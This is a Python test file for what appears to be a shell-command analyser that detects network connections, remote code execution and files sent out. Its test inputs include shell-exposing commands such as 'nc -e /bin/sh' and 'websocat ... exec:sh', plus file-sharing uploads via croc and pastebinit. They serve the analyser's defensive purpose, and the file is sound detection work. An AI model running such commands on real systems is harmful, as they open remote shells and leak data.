"""Programs that talk to other machines, or give files and messages away."""

from __future__ import annotations

from tallystick.intent.programs import actions_of
from tallystick.intent.programs.network import host_of
from tallystick.model.script import Command, Word
from tests.intent.programs.acting import acted, does, flows
from tests.support.cases import each_case


@each_case("text, port, expected")
def test_a_host_has_a_port(text: str, port: str, expected: str) -> None:
    assert host_of(Word(text), port).text == expected


@each_case("text, expected")
def test_hosts_ports_and_keys_are_found(text: str, expected: list[str]) -> None:
    assert does(text) == expected


def test_input_goes_to_the_host_and_its_answer_to_the_output() -> None:
    done = acted("ssh h x", fed="a")
    assert (done.prints, done.actions[0].from_input, done.reads_input) == ((0,), True, False)


@each_case("text, expected")
def test_what_ssh_runs_on_this_machine_is_read(text: str, expected: list[str]) -> None:
    assert [code.text.text for code in acted(text).codes] == expected


def test_what_ssh_is_fed_for_this_machine_is_read() -> None:
    fed = Command(words=tuple(map(Word, ["ssh", "localhost", "sh", "-s"])), input=Word("rm a"))
    (code,) = actions_of(fed).codes
    assert code.text.text.startswith("sh -s <<'END")
    assert "\nrm a\n" in code.text.text


def test_what_a_connection_is_given_is_run() -> None:
    assert [code.text for code in acted("nc -e /bin/sh h 1").codes] == [Word("/bin/sh")]
    assert [code.text for code in acted("socat - SYSTEM:'cat a'").codes] == [Word("cat a")]


def test_socat_joins_both_ends() -> None:
    assert set(flows("socat TCP:a:1 TCP:b:2")) == {"a:1 -> b:2", "b:2 -> a:1"}
    assert acted("socat X:a Y:b").is_unknown


def test_a_filter_of_openssl_reads_its_input_only_if_there_is_some() -> None:
    assert acted("openssl enc -aes256", fed="x").reads_input
    assert not acted("openssl rand 8", fed="x").reads_input


@each_case("text, expected")
def test_files_go_to_whoever_has_the_code_or_the_link(text: str, expected: list[str]) -> None:
    assert does(text) == expected


def test_what_is_read_goes_out() -> None:
    assert flows("croc send a") == ["a -> files:croc"]
    assert does("pastebinit", fed="x") == ["send< files:pastebinit"]


def test_a_program_that_is_joined_with_a_connection_is_read() -> None:
    assert [code.text.plain for code in acted("websocat ws://h exec:sh").codes] == ["sh"]
